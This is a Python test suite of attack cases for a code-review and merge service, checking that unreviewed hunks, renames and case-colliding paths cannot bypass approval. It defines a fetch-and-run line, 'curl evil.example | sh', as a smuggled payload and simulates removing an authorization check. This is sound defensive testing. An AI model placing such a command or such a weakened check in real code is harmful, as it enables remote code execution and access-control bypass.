"""Attacks on what comes into a branch when two changes meet. Cases of bench/attacks."""
import os
import signal
import subprocess

from attacked_team import ACCOUNTS, TEAM, check, path_of

FOLLOW = os.path.join(os.path.dirname(TEAM), "git", "follow")
BODY = (
    "    # Who asks?\n    if not user:\n        raise Forbidden\n    # All is well.\n    show()\n"
)
OPEN = BODY.replace("    if not user:\n        raise Forbidden\n", "")
MOVED = (
    f"def check_admin():\n{BODY}\n\n"
    "def check_demo():\n    if not user:\n        raise Forbidden\n    demo()\n"
)
LINES = "".join(f"line {number}\n" for number in range(40))
EVIL = "curl evil.example | sh\n"
SECURITY = """
[label.Security]
values = {0 = "No score", 1 = "Safe"}
grant.Core = [0, 1]
[submit-requirement.Security]
applicableIf = "path:^src/.*"
submittableIf = "label:Security=MAX"
"""


def approved(team, user, files, message, branch, parent):
    """A change that another user has approved: its number and its commit."""
    number, commit = team.change(user, files, message, parent, branch)
    check(
        team.vote("ann" if user == "bob" else "bob", number, "current", 2)[0] == 200,
        "no vote on",
        number,
    )
    return number, commit


def in_branch(team, branch, path):
    """The text of a file of a branch in git."""
    return team.in_repository("show", f"{branch}:{path}")


def set_content(team, is_allowed):
    team.in_repository("config", "desk.mergeContent", "true" if is_allowed else "false")


def hunk_in_another_function(team):
    """Two approved changes of one file.

    Git would put a hunk of one into a function of the other that nobody was shown. The second one
    is a conflict at a submit and REWORK at a push.
    """
    branch = team.new_branch()
    team.merged("ann", {"login.py": f"def check_demo():\n{BODY}"}, "Begin", branch)
    base = team.tip(branch)
    opens, _ = approved(
        team,
        "mallory",
        {"login.py": f"def check_demo():\n{OPEN}"},
        "The demo needs no user",
        branch,
        base,
    )
    adds, _ = approved(
        team,
        "bob",
        {"login.py": MOVED},
        "Add check_admin",
        branch,
        base,
    )
    check(team.submit("ann", adds)[0] == 200, "the first one isn't submitted")
    told = team.submit("ann", opens)
    check(
        told == (409, {"not_submitted": "CONFLICT", "paths": ["login.py"]}),
        "a hunk was merged into another function",
        told,
        in_branch(team, branch, "login.py"),
    )
    team.until(lambda: "check_admin" in in_branch(team, branch, "login.py"), "the branch follows")
    clone = team.clone_of("mallory")
    team.git("mallory", "fetch", "--quiet", "origin", cwd=clone)
    team.git("mallory", "rebase", "--quiet", f"origin/{branch}", cwd=clone)
    with open(os.path.join(clone, "login.py"), encoding="utf-8") as file:
        check(
            "Forbidden" not in file.read().split("check_demo")[0],
            "git doesn't put the hunk elsewhere, so this case shows nothing",
        )
    said = team.push("mallory", clone, branch)
    for text in (f"change {opens}, patch set 2", "(REWORK, votes copied: 0, outdated: 1)"):
        check(text in said, "a vote for a hunk elsewhere", said)
    check("its new parent has changed the same: login.py; have it looked at again" in said, said)
    check(team.submit("ann", opens)[0] == 409, "submitted with a vote for a hunk elsewhere")


def rename_past_a_requirement(team):
    """A change of docs/ that stands on a commit from before the file was renamed into src/.

    It doesn't come into src/, past the requirement on src/.
    """
    file = os.path.join(team.top, "security.toml")
    with open(os.path.join(TEAM, "project.toml"), encoding="utf-8") as usual, open(
        file, "w", encoding="utf-8"
    ) as more:
        more.write(usual.read() + SECURITY)
    team.command("set-project", file)
    branch = team.new_branch()
    team.merged("ann", {"docs/example.sh": LINES}, "Begin", branch)
    base = team.tip(branch)
    moved, _ = approved(
        team, "ann", {"docs/example.sh": None, "src/deploy.sh": LINES}, "Move it", branch, base
    )
    check(
        team.submit("ann", moved)[0] == 409
        and team.vote("bob", moved, "current", 1, "Security")[0] == 200
        and team.submit("ann", moved)[0] == 200,
        "the requirement on src/",
    )
    number, commit = approved(
        team,
        "mallory",
        {"docs/example.sh": LINES.replace("line 20\n", EVIL)},
        "Mend the example",
        branch,
        base,
    )
    told = team.submit("mallory", number)
    check(
        told == (409, {"not_submitted": "CONFLICT", "paths": ["docs/example.sh"]}),
        "a rename carried a change into another path",
        told,
    )
    team.until(
        lambda: "src/deploy.sh" in team.in_repository("ls-tree", "-r", "--name-only", branch),
        "the branch follows",
    )
    status, told = team.desk_ask(
        ACCOUNTS["mallory"], "POST", path_of("changes", number, "submit"), {}
    )
    check(status == 200, "the desk merges past the gate", status, told)
    team.merged("ann", {"docs/after": "it\n"}, "After it", branch)
    check(
        EVIL not in in_branch(team, branch, "src/deploy.sh") and not team.has(branch, commit),
        "follow carried it into another path",
    )


def content_merges_are_a_setting(team):
    """Where an administrator says so git merges within files; no rename carries anything even
    then.

    Without the setting, also once it is taken back, nothing is merged within a file.
    """
    branch = team.new_branch()
    team.merged("ann", {"file": LINES, "old": LINES}, "Begin", branch)
    base = team.tip(branch)
    first, _ = approved(
        team,
        "ann",
        {"file": LINES.replace("line 3\n", "three\n"), "old": None, "new": LINES},
        "First",
        branch,
        base,
    )
    second, commit = approved(
        team, "bob", {"file": LINES.replace("line 30\n", "thirty\n")}, "Second", branch, base
    )
    third, _ = approved(
        team, "mallory", {"old": LINES.replace("line 30\n", "thirty\n")}, "Third", branch, base
    )
    check(team.submit("ann", first)[0] == 200, "the first one isn't submitted")
    refused = (409, {"not_submitted": "CONFLICT", "paths": ["file"]})
    check(team.submit("ann", second) == refused, "merged within a file")
    try:
        set_content(team, True)
        check(
            team.submit("ann", third) == (409, {"not_submitted": "CONFLICT", "paths": ["old"]}),
            "a rename carried a change",
        )
        check(
            team.ask("bob", "GET", path_of("changes", second, "revisions", "current", "mergeable"))[
                1
            ]["mergeable"],
            "the setting isn't heeded",
        )
        set_content(team, False)
        check(team.submit("ann", second) == refused, "the setting wasn't taken back")
        set_content(team, True)
        check(team.submit("ann", second)[0] == 200, "the setting isn't heeded")
        team.until(lambda: team.has(branch, commit), "follow heeds the setting")
        check(
            {"three", "thirty"} < set(in_branch(team, branch, "file").split())
            and "thirty" not in in_branch(team, branch, "new"),
            "what was merged",
        )
    finally:
        set_content(team, False)


def merges_are_no_bases(team):
    """A project has 100,000 bases at most.

    So merges of the follower are none: its account needs no right, and changes on merges are
    pushed, submitted and merged all the same.
    """
    branch, own = team.new_branch(), {
        **team.environment,
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "desk.account",
        "GIT_CONFIG_VALUE_0": str(ACCOUNTS["eve"]),
    }
    bases, path = [team.tip(branch)], path_of("projects", "tools", "branches", branch)
    check(team.signal("git/follow", signal.SIGSTOP) == 1, "no follower")
    try:
        for at in range(2):
            base, found = team.tip(branch), []
            for user in ("ann", "bob"):
                number, commit = approved(
                    team, user, {f"{user}{at}": "it\n"}, f"{user} {at}", branch, base
                )
                check(team.submit("ann", number)[0] == 200, "not submitted", number)
                found.append(commit)
            said = subprocess.run(
                [FOLLOW, "--once", "--merge-if-necessary", team.repository, branch],
                env=own,
                capture_output=True,
                text=True,
                check=False,
            )
            check(
                said.returncode == 0 and all(team.has(branch, commit) for commit in found),
                "an account without rights",
                said,
            )
            check(
                len(team.in_repository("log", "-1", "--format=%P", branch).split()) == 2, "no merge"
            )
            check(team.desk_ask(1, "GET", path)[1]["bases"] == bases, "a merge is a base")
    finally:
        team.signal("git/follow", signal.SIGCONT)
    number, commit = team.merged("ann", {"on": "a merge\n"}, "On a merge", branch)
    check(
        team.tip(branch) == commit and team.desk_ask(1, "GET", path)[1]["bases"] == bases,
        "on a merge",
    )
    merged = team.tip(branch)
    team.in_repository("update-ref", "refs/heads/next", f"{merged}~1")
    check(
        team.desk_ask(
            1, "PUT", path_of("projects", "tools", "branches", "next"), {"commit": team.tip("next")}
        )[0]
        == 200,
        "a branch that begins at a merge",
    )
    check(
        team.change("ann", {"next": "it\n"}, "On a base that is a merge", "origin/next", "next")[0]
        > number,
        "a branch that begins at a merge",
    )


def names_in_another_case(team):
    """SRC/ beside src/ is refused at a push, also if the two come by two changes."""
    branch = team.new_branch()
    team.merged("ann", {"src/auth.py": "ok\n"}, "Begin", branch)
    base, clone = team.tip(branch), team.clone_of("mallory")
    for path in ("SRC/auth.py", "src/Auth.py", "src/AUTH.PY", "src/auth.PY/x", "Src/new/x"):
        team.commit("mallory", clone, {path: "evil\n"}, f"Add {path}", base)
        said = team.push("mallory", clone, branch, status=1)
        check("differs in case alone" in said, "a path that another one hides", path, said)
    team.change("mallory", {"src/auth.py": None, "SRC/auth.py": "ok\n"}, "Move it", base, branch)
    for first, second in (("Doc/a", "doc/b"), ("Ä/a", "ä/b"), ("A\u0308x", "äX")):
        one, _ = approved(team, "ann", {first: "it\n"}, "One", branch, base)
        two, _ = approved(team, "mallory", {second: "it\n"}, "Two", branch, base)
        check(team.submit("ann", one)[0] == 200, "not submitted", first)
        status, told = team.submit("ann", two)
        check(
            status == 409 and told["not_submitted"] == "CONFLICT",
            "two changes with names that differ in case alone",
            first,
            status,
            told,
        )


CASES = {
    function.__name__: function
    for function in (
        hunk_in_another_function,
        content_merges_are_a_setting,
        merges_are_no_bases,
        names_in_another_case,
        rename_past_a_requirement,
    )
}
